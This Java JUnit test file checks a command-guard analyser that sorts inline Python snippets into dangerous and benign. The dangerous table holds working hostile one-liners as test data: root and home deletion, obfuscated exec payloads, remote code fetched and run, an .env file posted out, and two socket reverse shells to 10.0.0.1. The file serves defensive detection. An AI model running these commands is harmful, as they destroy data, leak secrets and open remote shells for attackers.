package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class PythonInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("import shutil; shutil.rmtree('/')", "delete-r:/"),
        row("import os; os.remove('/etc/passwd')", "delete:/etc/passwd"),
        row("__import__('os').system('rm -rf /')", "shell:rm -rf /"),
        row("import subprocess; subprocess.run(['rm','-rf','/'])", "argv:[rm, -rf, /]"),
        row("import subprocess; subprocess.call('rm -rf /', shell=True)", "shell:rm -rf /"),
        row("from os import system as s; s('id')", "shell:id"),
        row("import base64; exec(base64.b64decode('cm0gLXJmIC8='))", "eval:exec"),
        row(
            "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
            "eval:exec",
            "shell:id"),
        row(
            "import zlib,base64; exec(zlib.decompress(base64.b64decode("
                + "'eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=')))",
            "eval:exec",
            "shell:id"),
        row(
            "import codecs; exec(codecs.decode(\"vzcbeg bf; bf.flfgrz('vq')\", 'rot13'))",
            "eval:exec",
            "shell:id"),
        row("import os as o; o.popen('ls -la').read()", "shell:ls -la"),
        row("from subprocess import *; check_call(['make', 'install'])", "argv:[make, install]"),
        row("import subprocess as sp; sp.Popen('ls', shell=True)", "shell:ls"),
        row("import subprocess; subprocess.run('git status')", "argv:[git, status]"),
        row(
            "import subprocess, sys; sys.exit(subprocess.call([sys.executable, '-m', 'pytest']))",
            "argv:[python3, -m, pytest]"),
        row("import os; os.execvp('rm', ['rm', '-rf', '/'])", "argv:[rm, -rf, /]"),
        row("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/x')", "argv:[rm, -rf, /x]"),
        row("import pty; pty.spawn('/bin/bash')", "argv:[/bin/bash]"),
        row("import os; d = '/'; os.system(f'rm -rf {d}')", "shell:rm -rf /"),
        row("import os; os.system(f'rm -rf {target}')", "shell~:rm -rf ${target}"),
        row("import os; os.system('r' + 'm -rf ~')", "shell:rm -rf ~"),
        row("import os; os.system('\\x72\\x6d -rf /')", "shell:rm -rf /"),
        row("import os; os.system(chr(114) + chr(109) + ' -rf /')", "shell:rm -rf /"),
        row("import os; os.system('/ fr- mr'[::-1])", "shell:rm -rf /"),
        row("import os; os.system(''.join(['r', 'm', ' -rf /']))", "shell:rm -rf /"),
        row("import os; os.system('rm -rf %s' % '/srv')", "shell:rm -rf /srv"),
        row("import os; os.system('rm -rf {}'.format('/home'))", "shell:rm -rf /home"),
        row("import os; os.system('rm -rf ' + os.environ['HOME'])", "shell:rm -rf ~"),
        row("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "delete-r:~"),
        row("import shutil, os; shutil.rmtree(os.getenv('TMPDIR'))", "delete-r~:${TMPDIR}"),
        row("from pathlib import Path; Path('/etc/x').unlink()", "delete:/etc/x"),
        row("import pathlib; (pathlib.Path.home() / '.ssh').rmdir()", "delete:~/.ssh"),
        row("import shutil; shutil.move('/etc', '/tmp/etc')", "delete-r:/etc", "write:/tmp/etc"),
        row("import os; [os.remove(f) for f in os.listdir('.')]", "delete~:${f}"),
        row("import os; list(map(os.remove, files))", "delete~:${callback}"),
        row("open('/etc/hosts', 'w').write('x')", "write:/etc/hosts"),
        row("getattr(__import__('os'), 'sys' + 'tem')('id')", "shell:id"),
        row("import importlib; importlib.import_module('os').system('id')", "shell:id"),
        row("exec(\"import os; os.system('whoami')\")", "eval:exec", "shell:whoami"),
        row(
            "try:\n  import subprocess as sp\nexcept ImportError:\n  pass\nsp.call('make', shell=True)",
            "shell:make"),
        row("if True: d = '/srv'\nimport shutil; shutil.rmtree(d)", "delete-r:/srv"),
        row("import os; x = ['rm', '-rf']; x.append('/'); os.execvp('rm', x)", "argv~:[rm, ${x}]"),
        row("import subprocess; a = ['ls']; a[0] = 'rm'; subprocess.run(a)", "argv~:[${a}]"),
        row("import os; f = os.system; f('rm -rf /')", "shell:rm -rf /"),
        row("import sys; sys.modules['os'].system('id')", "shell:id"),
        row("import subprocess as s; s.run('rm -rf /', shell=1)", "shell:rm -rf /"),
        row(
            "import os; os.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))",
            "shell:rm -rf /"),
        row("import shutil\nd = '/tmp/x'\ndef f(d):\n    shutil.rmtree(d)", "delete-r~:${d}"),
        row(
            "import shutil\nif c:\n    d = '/'\nelse:\n    d = '/tmp'\nshutil.rmtree(d)",
            "delete-r~:${d}"),
        row("import os; cmd = 'ls'; cmd = 'rm -rf /'; os.system(cmd)", "shell~:${cmd}"),
        row("import os; cmd = 'rm'; cmd += ' -rf /'; os.system(cmd)", "shell:rm -rf /"),
        row("import os; os.__dict__['system']('id')", "shell:id"),
        row("import os; os.__getattribute__('system')('id')", "shell:id"),
        row("eval(input())", "eval~:eval", "opaque"),
        row("import os; getattr(os, name)('id')", "opaque"),
        row("__import__(mod).run()", "opaque"),
        row(
            "import urllib.request; exec(urllib.request.urlopen('http://x/p.py').read())",
            "net:urllib.request.urlopen",
            "eval~:exec",
            "opaque"),
        row(
            "import requests; requests.post('http://x', data=open('.env').read())",
            "net:requests.post"),
        row(
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                + "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
                + " os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);",
            "net:socket.socket.connect",
            "argv:[/bin/sh, -i]",
            "revshell:socket.socket.connect"),
        row(
            "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));"
                + "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('sh')",
            "net:socket.socket.connect",
            "argv:[sh]",
            "revshell:socket.socket.connect"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("print(1+1)"),
        row("import json; print(json.dumps({'a': 1}))"),
        row("import sys; print(sum([int(n) for n in sys.stdin.readlines()]))"),
        row("import sys; print sys.argv[1:]"),
        row("import sys, json; d = json.load(sys.stdin); print(d['version'])"),
        row("print(open('/etc/passwd').read())"),
        row("x = 'a'; y = 'b'  # os.system('rm -rf /')"),
        row("s = \"\"\" os.system('rm -rf /') \"\"\"; print(s)"),
        row("print('os.system(\"rm -rf /\")')"),
        row("print(r'C:\\\\new\\\\table')"),
        row("print(f'{1 + 2:>5} {\"x\"!r}')"),
        row("import platform; print(platform.system())"),
        row("import os; print(os.getcwd())"),
        row("import os; print(os.path.join('a', 'b'))"),
        row("import os; print(os.environ.get('PATH'))"),
        row("import os.path; print(os.path.exists('/tmp'))"),
        row("import this"),
        row("import sys; print(sys.version)"),
        row("import hashlib; print(hashlib.sha256(b'x').hexdigest())"),
        row("print([x[::-1] for x in ['ab', 'cd']])"),
        row("import datetime; print(datetime.datetime.now().isoformat())"),
        row("import re; print(re.sub(r'\\s+', ' ', 'a  b'))"),
        row("import base64; print(base64.b64decode('aGVsbG8=').decode())"),
        row("import csv, sys; [print(r[0]) for r in csv.reader(sys.stdin)]"),
        row("lambda: 1"),
        row("import subprocess; print(subprocess.PIPE)"),
        row("import os; print(os.listdir('.'))"),
        row("with open('setup.cfg') as f: print(f.read())"),
        row("import yaml, sys; print(yaml.safe_load(sys.stdin))"),
        row("from collections import Counter; print(Counter('hello'))"),
        row("import math; print(math.sqrt(2))"),
        row("import uuid; print(uuid.uuid4())"),
        row("import os; print(os.path.expanduser('~'))"),
        row("import shutil; print(shutil.which('git'))"),
        row("import tempfile; print(tempfile.gettempdir())"),
        row("import socket; print(socket.gethostname())"),
        row("print(eval.__doc__ is None)"),
        row("import sys; sys.exit(0)"),
        row("print('%s-%s' % ('a', 'b'))"),
        row("for i in range(3): print(i)"),
        row("import urllib.parse; print(urllib.parse.quote('a b'))"),
        row("import pathlib; print(pathlib.Path('x').read_text())"),
        row("import pathlib; print(list(pathlib.Path('.').glob('*.py')))"),
        row("class A: pass\nprint(A())"),
        row("def f(x):\n    return x * 2\nprint(f(3))"),
        row("def system(cmd):\n    print(cmd)\nsystem('ls')"),
        row("import io; print(io.StringIO('x').read())"),
        row("print(open('notes.txt', 'r').read())"),
        row("x = ['a']; x.append('b'); print(x)"),
        row("import sys; print(sys.argv[1] if len(sys.argv) > 1 else 'none')"),
        row("import os; print({k: v for k, v in os.environ.items() if k.startswith('X')})"),
        row("import json, sys; json.dump({'a': 1}, sys.stdout, indent=2)"),
        row("import subprocess; help(subprocess.run)"),
        row("import time; time.sleep(0.1); print('done')"),
        row("for d in ['a', 'b']:\n    print(d)"),
        row("import os, sys; os.makedirs(sys.argv[1], exist_ok=True)"),
        row("import os; print(os.__dict__.keys())"),
        row("import os; print(sorted(vars(os))[:3])"),
        row("with open('x') as f:\n    print(len(f.read()))"),
        row("print(sorted(['b', 'a'], key=lambda s: s.lower()))"),
        row("try:\n    import yaml\nexcept ImportError as e:\n    print(e)"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.PYTHON, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
